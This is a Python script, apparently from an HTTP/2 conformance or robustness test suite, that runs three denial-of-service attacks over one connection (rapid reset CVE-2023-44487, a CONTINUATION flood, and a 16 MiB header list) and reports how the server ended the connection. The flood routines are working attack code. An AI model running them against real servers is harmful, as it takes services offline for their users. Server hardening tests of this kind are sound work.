#!/usr/bin/env python3
"""HTTP/2 abuse on one client connection, frame by frame (the frame helpers are the conformance
suite's): prints one JSON line saying how the server ended the connection.

  rapid-reset          HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487)
  continuation-flood   one HEADERS without END_HEADERS, then CONTINUATION frames without end
                       (small header fields, so the block grows slowly; CVE-2024-27316 family)
  oversized-headers    one request whose header list is far beyond any server's limit (16 MiB
                       across CONTINUATION frames), END_HEADERS only at the very end

Usage: h2_abuse.py MODE --port N [--host H] [--tls] [--authority A] [--path P] [--count N]
                    [--seconds S]
Output: {"mode", "sent" (streams or frames sent), "ended_by" ("GOAWAY", "closed" or "nothing"),
         "code" (the GOAWAY's error code name), "seconds", "rst_streams", "responses"}
"""
import argparse
import json
import os
import select
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2_conformance as h2c  # noqa: E402


class Watcher:
    """Reads what the server sends without ever blocking the flood."""

    def __init__(self, c):
        self.c = c
        self.ended_by, self.code = None, None
        self.rst_streams = self.responses = 0

    def poll(self, wait=0.0):
        """Takes in every frame already there (waiting up to `wait` for the first); True when the
        connection has ended."""
        c = self.c
        while self.ended_by is None:
            pending = c.sock.pending() if hasattr(c.sock, "pending") else 0
            if not pending and len(c.buf) < 9 and not select.select([c.sock], [], [], wait)[0]:
                return False
            wait = 0.0
            try:
                f = c.read_frame(timeout=0.2)
            except h2c.Closed:
                self.ended_by = "closed"
                return True
            if f is None:
                return False
            ftype, _, _, payload = f
            if ftype == h2c.GOAWAY:
                self.ended_by = "GOAWAY"
                self.code = h2c.err_name(struct.unpack(">I", payload[4:8])[0])
                # What follows a GOAWAY is the close; wait for it briefly.
                try:
                    while c.read_frame(timeout=2) is not None:
                        pass
                except h2c.Closed:
                    pass
                return True
            if ftype == h2c.RST_STREAM:
                self.rst_streams += 1
            elif ftype == h2c.HEADERS:
                self.responses += 1
        return True


def send(c, w, data):
    """Sends everything unless the server ends the connection first; False once it has."""
    view = memoryview(data)
    while view:
        if w.poll():
            return False
        _, writable, _ = select.select([], [c.sock], [], 1.0)
        if not writable:
            continue
        try:
            n = c.sock.send(view[:65536])
        except (BlockingIOError, InterruptedError, TimeoutError):
            continue
        except OSError:
            w.poll(1.0)
            if w.ended_by is None:
                w.ended_by = "closed"
            return False
        view = view[n:]
    return True


def rapid_reset(c, w, args):
    # One stream id after another, each opened and cancelled at once, in batches per write.
    stream, sent = 1, 0
    batch = args.batch
    while sent < args.count and time.monotonic() < args.deadline:
        chunk = []
        for _ in range(batch):
            chunk.append(c.headers_frame(stream, end_stream=True))
            chunk.append(h2c.rst_stream(stream, h2c.CANCEL))
            stream += 2
        if not send(c, w, b"".join(chunk)):
            break
        sent += batch
        if args.pause:
            time.sleep(args.pause)
    return sent


def continuation_flood(c, w, args):
    block = c.block(c.request_headers())
    if not send(c, w, h2c.frame(h2c.HEADERS, h2c.END_STREAM, 1, block)):
        return 0
    # Each CONTINUATION carries one small literal header field; END_HEADERS never comes.
    fragment = h2c.literal("x-flood", "y" * 8)
    one = h2c.frame(h2c.CONTINUATION, 0, 1, fragment)
    sent = 0
    while sent < args.count and time.monotonic() < args.deadline:
        if not send(c, w, one * 1000):
            break
        sent += 1000
    return sent


def oversized_headers(c, w, args):
    fields = h2c.raw(c, c.request_headers()) + b"".join(
        h2c.literal(f"x-big-{i}", "z" * 4000) for i in range(16 * 1024 * 1024 // 4000))
    size = c.max_frame_size
    frames = [h2c.frame(h2c.HEADERS, h2c.END_STREAM, 1, fields[:size])]
    rest = fields[size:]
    while rest:
        part, rest = rest[:size], rest[size:]
        frames.append(h2c.frame(h2c.CONTINUATION, 0 if rest else h2c.END_HEADERS, 1, part))
    sent = 0
    for i in range(0, len(frames), 16):
        if not send(c, w, b"".join(frames[i:i + 16])):
            break
        sent = min(len(frames), i + 16)
    return sent


MODES = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
         "oversized-headers": oversized_headers}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--authority")
    p.add_argument("--path", default="/")
    p.add_argument("--count", type=int, default=100000, help="streams (rapid-reset) or frames to send at most")
    p.add_argument("--batch", type=int, default=100, help="rapid-reset: streams opened and reset per write")
    p.add_argument("--pause", type=float, default=0.0, help="rapid-reset: seconds between writes")
    p.add_argument("--seconds", type=float, default=10.0, help="stop sending after this long")
    args = p.parse_args()
    args.timeout = 5.0
    t = h2c.Target(args)
    c = h2c.Conn(t)
    c.handshake()
    c.sock.setblocking(False)
    w = Watcher(c)
    started = time.monotonic()
    args.deadline = started + args.seconds
    sent = MODES[args.mode](c, w, args)
    # After the flood: how does the connection end (if it does)?
    c.sock.setblocking(True)
    end = time.monotonic() + 5
    while w.ended_by is None and time.monotonic() < end:
        w.poll(0.2)
    print(json.dumps({"mode": args.mode, "sent": sent, "ended_by": w.ended_by or "nothing", "code": w.code,
                      "seconds": round(time.monotonic() - started, 3), "rst_streams": w.rst_streams,
                      "responses": w.responses}))


if __name__ == "__main__":
    main()
